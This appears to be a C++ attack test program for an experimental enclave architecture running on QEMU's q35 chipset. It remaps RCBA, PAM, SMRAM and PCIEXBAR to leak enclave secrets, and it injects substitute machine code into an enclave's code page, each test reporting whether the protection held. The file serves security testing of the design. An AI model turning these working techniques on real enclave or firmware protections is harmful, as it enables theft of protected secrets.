// Attack: the q35 chipset's decode registers (docs/specs/hix-isa.md §16.1,
// §16.2). Each re-decodes guest-physical addresses, so an EPC address can
// stop reaching the RAM that was added there, or the RAM can gain a second
// address. The attacker's kernel places an enclave's pages itself (a
// malicious OS needs no hix.ko) and then:
//
//   rcba-after-death  moves the ICH9 root complex register block (RCBA,
//                     00:1f.0 0xF0: 16 KiB of read/write MMIO at priority 1)
//                     over the enclave, destroys it, moves RCBA back and
//                     reads the page: EDESTROY's zeroing went to the cover
//                     and the secret is still in RAM;
//   rcba-code-substitution  with an initialised enclave alive (its
//                     measurement taken over its own code), moves RCBA over
//                     the enclave's code page, writes other code into the
//                     cover and enters the enclave: the CPU fetches the
//                     enclave's code through the cover, so the attacker's
//                     code runs in enclave mode and copies the enclave's
//                     secret out;
//   pam-after-death   the same with PAM (00:00.0 0x92, 0xCC000-0xCFFFF): the
//                     enclave lives in RAM there, PAM sends the range to
//                     PCI (ROM) while EDESTROY zeroes it;
//   smram-alias       with SMRAM open (D_OPEN) the enclave lives in RAM at
//                     0xB0000; H_SMRAME then opens the same RAM at
//                     0xFEDA0000 + offset, an address the EPC check knows
//                     nothing about: root reads the live secret there;
//   smram-alias-dma   in the same window, QEMU's edu device (another bus
//                     master) DMAs from the alias into attacker RAM: the DMA
//                     filter knows the EPC address, not the alias;
//   pciexbar-move     with an enclave alive, moves the ECAM window (PCIEXBAR,
//                     00:00.0 0x60) to an unused address and back;
//   pciexbar-after-death  the enclave lives in 64 MiB of RAM the kernel was
//                     told to leave alone (memmap=64M$0x30000000, run-vm
//                     --append); PCIEXBAR moves the ECAM window (64 MiB) over
//                     it, EDESTROY zeroes it (the zeroing goes to the config
//                     space of bus 63, which has no device), PCIEXBAR moves
//                     back and the secret is read from RAM.
#include <dirent.h>
#include <time.h>

#include <memory>
#include <optional>

#include "platform_common.hpp"
#include "runnable_enclave.hpp"

// The attacker's code for the enclave's code page (never run in the host).
// EENTER leaves RBX = the ELRANGE base and RDI = the untrusted page: it
// copies the 64 bytes at the start of the enclave's data page to RDI + 64,
// sets the page's `done` to 2 (the enclave's own code sets 1) and EEXITs.
// NOLINTNEXTLINE(hicpp-no-assembler): the substitute is machine code
asm(".pushsection .rodata\n"
    ".globl hix_substitute_code\n"
    "hix_substitute_code:\n\t"
    "xor %eax, %eax\n"
    "1:\n\t"
    "mov 0x2000(%rbx,%rax,8), %rdx\n\t"
    "mov %rdx, 0x40(%rdi,%rax,8)\n\t"
    "inc %eax\n\t"
    "cmp $8, %eax\n\t"
    "jne 1b\n\t"
    "movq $2, 16(%rdi)\n\t"
    "mov %rcx, %rbx\n\t"
    "mov $4, %eax\n\t"
    ".byte 0x0f, 0x01, 0xd7\n" /* ENCLU[EEXIT] */
    ".globl hix_substitute_code_end\n"
    "hix_substitute_code_end:\n"
    ".popsection");

extern "C" const std::uint8_t hix_substitute_code[];
extern "C" const std::uint8_t hix_substitute_code_end[];

namespace {

using namespace hix::platform;

constexpr std::uint32_t kRcba = 0xF0;
constexpr std::uint32_t kRcbaEnable = 1;
constexpr std::uint32_t kPam2 = 0x92;    // lo nibble 0xC8000, hi nibble 0xCC000
constexpr std::uint8_t kPamHiRw = 0x30;  // read and write RAM
constexpr std::uint8_t kPamHiMask = 0xF0;
constexpr std::uint64_t kPamBase = 0xCC000;
constexpr std::uint32_t kSmram = 0x9D;
constexpr std::uint8_t kDOpen = 0x40;
constexpr std::uint32_t kEsmramc = 0x9E;
constexpr std::uint8_t kHSmrame = 0x80;
constexpr std::uint64_t kLowSmram = 0xB0000;  // outside SeaBIOS's SMM area (0xA0000-0xAFFFF)
constexpr std::uint64_t kOpenHigh = 0xFEDA0000 - 0xA0000;  // alias of 0xA0000-0xBFFFF
constexpr std::uint32_t kPciexbar = 0x60;
constexpr std::uint64_t kPamPage = kPamBase + HIX_PAGE_SIZE;
constexpr std::uint64_t kAliasPage = kOpenHigh + kLowSmram + HIX_PAGE_SIZE;
// PCIEXBAR: enable bit 0, length bits 2:1 (2 = 64 MiB, its smallest), the
// base in bits 38:26 for that length (Intel 3 Series MCH datasheet, 5.1.15).
constexpr std::uint32_t kPciexbarEnable = 1;
constexpr std::uint32_t kPciexbarLength64M = 2u << 1;
// The RAM the guest kernel leaves alone (memmap=64M$0x30000000): 64 MiB
// aligned, the ECAM window's smallest size. Its last MiB is bus 63's
// configuration space, where no device answers.
constexpr std::uint64_t kReservedRam = 0x30000000;
constexpr std::uint64_t kBus63 = 63ull << 20;

// QEMU's edu device (docs/specs/edu.rst in QEMU): a DMA engine with a 4 KiB
// buffer at 0x40000 of its own address space, registers in BAR0.
class Edu {
 public:
  static std::optional<Edu> find(AttackDevice& dev);

  // One transfer between `src` and `dst` (one of them in the buffer);
  // false when it did not finish within 5 s.
  bool transfer(std::uint64_t src, std::uint64_t dst, std::uint32_t count, bool to_ram) {
    write(Reg::source, static_cast<std::uint32_t>(src));
    write(Reg::destination, static_cast<std::uint32_t>(dst));
    write(Reg::count, count);
    write(Reg::command, kRun | (to_ram ? kToRam : 0));
    for (int i = 0; i < 500; ++i) {
      if ((read(Reg::command) & kRun) == 0) return true;
      const timespec ten_ms{0, 10'000'000};
      nanosleep(&ten_ms, nullptr);
    }
    return false;
  }
  static constexpr std::uint64_t kBuffer = 0x40000;

 private:
  // BAR0 registers; a 32-bit write sets the whole 64-bit register.
  enum class Reg : std::uint32_t {
    source = 0x80,       // DMA source address
    destination = 0x88,  // DMA destination address
    count = 0x90,        // DMA byte count
    command = 0x98,      // DMA command: run, direction
  };
  static constexpr std::uint32_t kRun = 0x1;
  static constexpr std::uint32_t kToRam = 0x2;  // buffer -> PCI address

  Edu(AttackDevice& dev, std::uint64_t bar0) : dev_(&dev), bar0_(bar0) {}
  void write(Reg r, std::uint32_t v) {
    hix_attack_mmio32 m{bar0_ + static_cast<std::uint32_t>(r), v, 0};
    if (const int e = dev_->call(HIX_ATTACK_WRITE32_IOREMAP, &m); e != 0) {
      fail("edu write: %s", strerror(e));
    }
  }
  std::uint32_t read(Reg r) {
    hix_attack_mmio32 m{bar0_ + static_cast<std::uint32_t>(r), 0, 0};
    if (const int e = dev_->call(HIX_ATTACK_READ32_IOREMAP, &m); e != 0) {
      fail("edu read: %s", strerror(e));
    }
    return m.value;
  }

  AttackDevice* dev_;
  std::uint64_t bar0_;
};

std::optional<Edu> Edu::find(AttackDevice& dev) {
  constexpr std::uint32_t kId = 0x11E81234;  // device 0x11e8, vendor 0x1234
  constexpr std::uint32_t kCommand = 0x04;
  constexpr std::uint16_t kMemoryAndMaster = 0x6;
  constexpr std::uint32_t kBar0 = 0x10;
  std::unique_ptr<DIR, int (*)(DIR*)> dir(opendir("/sys/bus/pci/devices"), closedir);
  if (!dir) return std::nullopt;
  while (const dirent* e = readdir(dir.get())) {
    if (e->d_name[0] == '.') continue;
    const Config cfg(e->d_name);
    if (cfg.read<std::uint32_t>(0) != kId) continue;
    cfg.write<std::uint16_t>(kCommand, cfg.read<std::uint16_t>(kCommand) | kMemoryAndMaster);
    return Edu(dev, cfg.read<std::uint32_t>(kBar0) & ~0xFu);
  }
  return std::nullopt;
}

// Saves two pages of low memory and puts them back.
class SavedPages {
 public:
  SavedPages(AttackDevice& dev, std::uint64_t base) : dev_(dev), base_(base) {
    for (std::size_t i = 0; i < pages_.size(); ++i)
      dev_.read_phys(base_ + i * HIX_PAGE_SIZE, pages_[i]);
  }
  ~SavedPages() {
    for (std::size_t i = 0; i < pages_.size(); ++i)
      dev_.write_phys(base_ + i * HIX_PAGE_SIZE, pages_[i]);
  }
  SavedPages(const SavedPages&) = delete;
  SavedPages& operator=(const SavedPages&) = delete;

 private:
  AttackDevice& dev_;
  std::uint64_t base_;
  std::array<Page, 2> pages_{};
};

void rcba_after_death(AttackDevice& dev) {
  Config lpc(kLpc);
  const std::uint64_t block = dev.block(2);  // 16 KiB, 16 KiB aligned: RCBA's granule
  const Secret secret = random_secret();
  const auto old = lpc.read<std::uint32_t>(kRcba);
  RawEnclave enclave(dev, {.secs_pa = block, .page_pa = block + HIX_PAGE_SIZE}, secret);
  if (enclave.create_status != HIX_OK || enclave.add_status != HIX_OK) {
    report({.property = "chipset", .path = "rcba-after-death", .outcome = "refused"},
           "ecreate=%u eadd=%u", enclave.create_status, enclave.add_status);
    return;
  }
  const auto target = static_cast<std::uint32_t>(block) | kRcbaEnable;
  lpc.write<std::uint32_t>(kRcba, target);
  const auto moved = lpc.read<std::uint32_t>(kRcba);
  const std::uint32_t destroyed = enclave.destroy();
  lpc.write<std::uint32_t>(kRcba, old);
  Page after{};
  const int err = dev.read_phys(block + HIX_PAGE_SIZE, after);
  report({.property = "chipset",
          .path = "rcba-after-death",
          .outcome = outcome(err == 0 && contains(after, secret))},
         "rcba_before=0x%08x rcba_target=0x%08x rcba_readback=0x%08x destroy=%u page=0x%llx "
         "after=%s",
         old, target, moved, destroyed, static_cast<unsigned long long>(enclave.page),
         describe(after, secret));
}

// What the enclave's `done` word says ran: its own code (1) or the
// attacker's (2).
constexpr std::uint64_t kRanOwn = 1;
constexpr std::uint64_t kRanSubstitute = 2;
constexpr std::size_t kLeakOffset = 64;  // where the substitute copies the secret

void rcba_code_substitution(AttackDevice& dev) {
  Config lpc(kLpc);
  // The code page is the second page of a 16 KiB block (RCBA's granule);
  // the other pages live elsewhere, so the TCS and the data stay in RAM.
  const std::uint64_t cover = dev.block(2);
  const std::uint64_t rest = dev.block(2);
  const Secret secret = random_secret();
  const auto old = lpc.read<std::uint32_t>(kRcba);
  RunnableEnclave enclave(dev,
                          {.secs = rest,
                           .tcs = rest + HIX_PAGE_SIZE,
                           .code = cover + HIX_PAGE_SIZE,
                           .data = rest + 2 * HIX_PAGE_SIZE},
                          secret);
  if (!enclave.ok()) {
    report({.property = "chipset", .path = "rcba-code-substitution", .outcome = "refused"},
           "why=%s status=%u", enclave.failed, enclave.status);
    return;
  }
  map_enclave(dev, enclave.pa);
  void* mem = mmap(nullptr, HIX_PAGE_SIZE, PROT_READ | PROT_WRITE,
                   MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
  if (mem == MAP_FAILED) fail("mmap");
  auto* shared = static_cast<volatile spinner_shared*>(mem);
  shared->stop = 1;  // the enclave's own code leaves after one round

  const auto target = static_cast<std::uint32_t>(cover) | kRcbaEnable;
  lpc.write<std::uint32_t>(kRcba, target);
  const auto moved = lpc.read<std::uint32_t>(kRcba);
  const bool covered = moved == target;
  // Only through a cover: without one the address is the enclave's page
  // itself, whose protection is the MMIO and EPC attack suites' subject.
  int written = -1;
  if (covered) {
    Page code{};
    const auto len = static_cast<std::size_t>(hix_substitute_code_end - hix_substitute_code);
    std::memcpy(code.data(), hix_substitute_code, len);
    written = dev.write_phys(enclave.pa.code, code);
  }
  const std::uint64_t rax = eenter(kEnclaveModeSpin, shared);
  lpc.write<std::uint32_t>(kRcba, old);
  const auto restored = lpc.read<std::uint32_t>(kRcba);
  const std::uint64_t done = shared->done;
  const auto* page = static_cast<const std::uint8_t*>(mem);
  const std::span<const std::uint8_t> copied(page + kLeakOffset, secret.size());
  const char* ran = done == kRanOwn ? "own" : done == kRanSubstitute ? "substitute" : "none";
  const char* left = rax == HIX_EEXIT                 ? "eexit"
                     : rax == HIX_ERR_ENCLAVE_ABORTED ? "abort"
                                                      : "other";
  const std::uint32_t destroyed = enclave.destroy();
  report({.property = "chipset",
          .path = "rcba-code-substitution",
          .outcome = outcome(done == kRanSubstitute && contains(copied, secret))},
         "rcba_before=0x%08x rcba_target=0x%08x rcba_readback=0x%08x rcba_restored=0x%08x "
         "code=0x%llx written=%d eenter_rax=%llu left=%s ran=%s counter=%llu copied=%s destroy=%u",
         old, target, moved, restored, static_cast<unsigned long long>(enclave.pa.code), written,
         static_cast<unsigned long long>(rax), left, ran,
         static_cast<unsigned long long>(shared->counter), describe(copied, secret), destroyed);
}

void pam_after_death(AttackDevice& dev) {
  Config mch(kMch);
  const auto old = mch.read<std::uint8_t>(kPam2);
  const auto ram = static_cast<std::uint8_t>((old & ~kPamHiMask) | kPamHiRw);
  const auto pci = static_cast<std::uint8_t>(old & ~kPamHiMask);
  mch.write<std::uint8_t>(kPam2, ram);
  std::uint8_t moved = 0;
  std::uint32_t destroyed = 0, created = 0, added = 0;
  Page after{};
  const Secret secret = random_secret();
  {
    SavedPages keep(dev, kPamBase);
    {
      RawEnclave enclave(dev, {.secs_pa = kPamBase, .page_pa = kPamBase + HIX_PAGE_SIZE}, secret);
      created = enclave.create_status;
      added = enclave.add_status;
      if (created == HIX_OK && added == HIX_OK) {
        mch.write<std::uint8_t>(kPam2, pci);
        moved = mch.read<std::uint8_t>(kPam2);
        destroyed = enclave.destroy();
        mch.write<std::uint8_t>(kPam2, ram);
        dev.read_phys(kPamBase + HIX_PAGE_SIZE, after);
      }
    }
  }
  mch.write<std::uint8_t>(kPam2, old);
  if (created != HIX_OK || added != HIX_OK) {
    report({.property = "chipset", .path = "pam-after-death", .outcome = "refused"},
           "ecreate=%u eadd=%u pam=0x%02x", created, added, old);
    return;
  }
  report({.property = "chipset",
          .path = "pam-after-death",
          .outcome = outcome(contains(after, secret))},
         "pam_before=0x%02x pam_ram=0x%02x pam_target=0x%02x pam_readback=0x%02x destroy=%u "
         "page=0x%llx after=%s",
         old, ram, pci, moved, destroyed, static_cast<unsigned long long>(kPamPage),
         describe(after, secret));
}

void smram_alias(AttackDevice& dev) {
  Config mch(kMch);
  const auto smram = mch.read<std::uint8_t>(kSmram);
  const auto esmramc = mch.read<std::uint8_t>(kEsmramc);
  mch.write<std::uint8_t>(kSmram, static_cast<std::uint8_t>(smram | kDOpen));
  mch.write<std::uint8_t>(kEsmramc, static_cast<std::uint8_t>(esmramc & ~kHSmrame));
  const Secret secret = random_secret();
  std::uint32_t created = 0, added = 0, destroyed = 0;
  std::uint8_t esmramc_readback = 0;
  std::array<std::uint8_t, 64> via_alias{}, via_epc{}, via_dma{};
  int alias_err = 0;
  auto edu = Edu::find(dev);
  const std::uint64_t dma_target = dev.block(0);  // attacker RAM, zeroed
  bool dma_done = false;
  {
    SavedPages keep(dev, kLowSmram);
    RawEnclave enclave(dev, {.secs_pa = kLowSmram, .page_pa = kLowSmram + HIX_PAGE_SIZE}, secret);
    created = enclave.create_status;
    added = enclave.add_status;
    if (created == HIX_OK && added == HIX_OK) {
      mch.write<std::uint8_t>(kEsmramc, static_cast<std::uint8_t>(esmramc | kHSmrame));
      esmramc_readback = mch.read<std::uint8_t>(kEsmramc);
      alias_err = dev.read_phys(kAliasPage, via_alias);
      dev.read_phys(kLowSmram + HIX_PAGE_SIZE, via_epc);
      if (edu) {
        dma_done = edu->transfer(kAliasPage, Edu::kBuffer, via_dma.size(), false) &&
                   edu->transfer(Edu::kBuffer, dma_target, via_dma.size(), true);
      }
      destroyed = enclave.destroy();
      mch.write<std::uint8_t>(kEsmramc, static_cast<std::uint8_t>(esmramc & ~kHSmrame));
    }
  }
  mch.write<std::uint8_t>(kEsmramc, esmramc);
  mch.write<std::uint8_t>(kSmram, smram);
  if (created != HIX_OK || added != HIX_OK) {
    report({.property = "chipset", .path = "smram-alias", .outcome = "refused"},
           "ecreate=%u eadd=%u smram=0x%02x esmramc=0x%02x", created, added, smram, esmramc);
    return;
  }
  report({.property = "chipset",
          .path = "smram-alias",
          .outcome = outcome(alias_err == 0 && contains(via_alias, secret))},
         "smram=0x%02x esmramc=0x%02x esmramc_readback=0x%02x alias=0x%llx via_alias=%s via_epc=%s "
         "destroy=%u",
         smram, esmramc, esmramc_readback, static_cast<unsigned long long>(kAliasPage),
         describe(via_alias, secret), describe(via_epc, secret), destroyed);
  if (!edu) {
    report({.property = "chipset", .path = "smram-alias-dma", .outcome = "refused"},
           "why=no-edu-device");
    return;
  }
  const int dma_err = dev.read_phys(dma_target, via_dma);
  report({.property = "chipset",
          .path = "smram-alias-dma",
          .outcome = outcome(dma_done && dma_err == 0 && contains(via_dma, secret))},
         "alias=0x%llx dma_done=%s target=0x%llx via_dma=%s",
         static_cast<unsigned long long>(kAliasPage), yes_no(dma_done),
         static_cast<unsigned long long>(dma_target), describe(via_dma, secret));
}

void pciexbar_move(AttackDevice& dev) {
  Config mch(kMch);
  const std::uint64_t block = dev.block(1);
  const Secret secret = random_secret();
  RawEnclave enclave(dev, {.secs_pa = block, .page_pa = block + HIX_PAGE_SIZE},
                     secret);  // some enclave exists
  const auto lo = mch.read<std::uint32_t>(kPciexbar);
  const auto hi = mch.read<std::uint32_t>(kPciexbar + 4);
  // Far above the guest's RAM and the MMIO windows; the size and enable bits
  // stay as they are.
  const std::uint32_t target_hi = 0xE;
  mch.write<std::uint32_t>(kPciexbar + 4, target_hi);
  const auto moved_hi = mch.read<std::uint32_t>(kPciexbar + 4);
  mch.write<std::uint32_t>(kPciexbar + 4, hi);
  const auto restored = mch.read<std::uint32_t>(kPciexbar + 4);
  report(
      {.property = "chipset", .path = "pciexbar-move", .outcome = outcome(moved_hi == target_hi)},
      "pciexbar=0x%08x%08x target_hi=0x%08x readback_hi=0x%08x restored_hi=0x%08x enclave=%s", hi,
      lo, target_hi, moved_hi, restored, yes_no(enclave.create_status == HIX_OK));
}

void pciexbar_after_death(AttackDevice& dev) {
  Config mch(kMch);
  const Secret secret = random_secret();
  const std::uint64_t secs = kReservedRam + kBus63;
  const std::uint64_t page = secs + HIX_PAGE_SIZE;
  const auto lo = mch.read<std::uint32_t>(kPciexbar);
  const auto hi = mch.read<std::uint32_t>(kPciexbar + 4);
  const auto target =
      static_cast<std::uint32_t>(kReservedRam) | kPciexbarLength64M | kPciexbarEnable;
  std::uint32_t moved = 0, destroyed = 0, created = 0, added = 0;
  Page before{}, after{};
  const int reserved_err = dev.read_phys(page, before);
  {
    RawEnclave enclave(dev, {.secs_pa = secs, .page_pa = page}, secret);
    created = enclave.create_status;
    added = enclave.add_status;
    if (created == HIX_OK && added == HIX_OK) {
      mch.write<std::uint32_t>(kPciexbar, lo & ~kPciexbarEnable);
      mch.write<std::uint32_t>(kPciexbar + 4, 0);
      mch.write<std::uint32_t>(kPciexbar, target);
      moved = mch.read<std::uint32_t>(kPciexbar);
      destroyed = enclave.destroy();
      mch.write<std::uint32_t>(kPciexbar, lo & ~kPciexbarEnable);
      mch.write<std::uint32_t>(kPciexbar + 4, hi);
      mch.write<std::uint32_t>(kPciexbar, lo);
    }
  }
  const auto restored = mch.read<std::uint32_t>(kPciexbar);
  const int err = dev.read_phys(page, after);
  if (created != HIX_OK || added != HIX_OK || reserved_err != 0) {
    report({.property = "chipset", .path = "pciexbar-after-death", .outcome = "refused"},
           "ecreate=%u eadd=%u read_reserved=%d (boot with memmap=64M$0x%llx)", created, added,
           reserved_err, static_cast<unsigned long long>(kReservedRam));
    return;
  }
  report({.property = "chipset",
          .path = "pciexbar-after-death",
          .outcome = outcome(err == 0 && contains(after, secret))},
         "pciexbar_before=0x%08x%08x pciexbar_target=0x%08x pciexbar_readback=0x%08x "
         "pciexbar_restored=0x%08x destroy=%u page=0x%llx after=%s",
         hi, lo, target, moved, restored, destroyed, static_cast<unsigned long long>(page),
         describe(after, secret));
}

}  // namespace

int main() {
  AttackDevice dev;
  rcba_after_death(dev);
  rcba_code_substitution(dev);
  pam_after_death(dev);
  smram_alias(dev);
  pciexbar_move(dev);
  pciexbar_after_death(dev);
  return 0;
}
